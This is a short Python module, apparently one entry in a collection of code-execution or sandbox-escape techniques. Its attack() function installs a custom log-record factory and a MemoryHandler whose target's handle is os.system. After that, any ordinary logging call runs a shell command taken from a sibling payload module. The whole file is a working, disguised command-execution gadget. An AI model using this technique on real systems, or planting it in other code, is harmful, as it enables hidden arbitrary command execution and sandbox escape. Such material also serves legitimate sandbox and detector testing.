"""A record is a command, and what a handler sends it to a function of C."""
CATEGORY = "callable"
REACH = "run"

import logging.handlers
import os

from . import payload


class Record(str):
    levelno = logging.CRITICAL
    name = "root"

    def __new__(cls, *args):
        return str.__new__(cls, payload.COMMAND)

    def __init__(self, *args):
        pass


class Target:
    handle = os.system


def attack():
    handler = logging.handlers.MemoryHandler(1, target=Target)
    logging.getLogger().addHandler(handler)
    logging.setLogRecordFactory(Record)
